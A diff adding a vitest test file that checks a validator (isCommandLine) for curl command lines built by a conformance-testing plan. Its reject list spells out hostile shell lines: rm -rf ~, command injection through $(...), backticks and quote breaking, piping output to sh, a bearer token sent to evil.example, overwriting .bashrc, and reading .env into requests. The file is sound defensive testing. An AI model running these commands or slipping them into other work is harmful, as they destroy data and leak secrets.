@@ -1,0 +1,49 @@
+import { describe, expect, test } from 'vitest';
+import { curlFor } from '../plan/curl.ts';
+import { peopleOf } from '../plan/people.ts';
+import { contract, planWith, settingsWith } from '../testing/small-world.ts';
+import { isCommandLine } from './command-line.ts';
+
+const settings = settingsWith({ CONFORMANCE_EXTRA_HEADERS: '{"X-`id`-$HOME": "x"}' });
+const people = peopleOf(settings.variables, 'test');
+
+test('every command line of a plan is one, also with an odd header', () => {
+  const parts = { contract, people, common: [], unknownToken: 'x' };
+  const lines = [...planWith().cases.values()].map((planned) => curlFor(parts, settings, planned));
+  expect(lines.length).toBeGreaterThan(100);
+  expect(lines.filter((line) => !isCommandLine(line))).toEqual([]);
+});
+
+describe('a command line of a journal', () => {
+  test.each([
+    `curl -sS -i -X POST "$TARGET_BASE_URL/search" -H "A: \\"\\\`b" --data-raw $'{\\'\\n'`,
+    `printf $'GET /%% HTTP/1.1\\r\\n\\r\\n' | nc <host and port of TARGET_BASE_URL>`,
+  ])('can be %s', (line) => {
+    expect(isCommandLine(line)).toBe(true);
+  });
+
+  test.each([
+    'rm -rf ~',
+    'curl -sS -i "$TARGET_BASE_URL"; rm -rf ~',
+    'curl -sS -i "$TARGET_BASE_URL" | sh',
+    'curl -sS -i "$TARGET_BASE_URL/$(rm -rf ~)"',
+    'curl -sS -i "$TARGET_BASE_URL/`rm -rf ~`"',
+    'curl -sS -i $(rm -rf ~)',
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is a line for bash.
+    'curl -sS -i "$TARGET_BASE_URL/${A:-$(rm -rf ~)}"',
+    'curl -sS -i "$TARGET_BASE_URL/$[$(rm)]"',
+    'curl -sS -i "x" & rm -rf ~',
+    'curl -sS -i "x"\nrm -rf ~',
+    'curl -sS -i <(rm -rf ~)',
+    'curl -sS -i "unfinished',
+    "curl -sS -i 'x\\'; rm -rf ~ #'",
+    'curl -sS -i "https://evil.example" -H "Authorization: Bearer $USER_TOKEN"',
+    'curl -sS -i "$TARGET_BASE_URL@evil.example"',
+    'curl -sS -i "$TARGET_BASE_URL/" -o .bashrc',
+    'curl -sS -i "$TARGET_BASE_URL/" -d \'@.env\'',
+    'curl -sS -i "$TARGET_BASE_URL/" -H "@.env"',
+    '',
+  ])('cannot be %j', (line) => {
+    expect(isCommandLine(line)).toBe(false);
+  });
+});
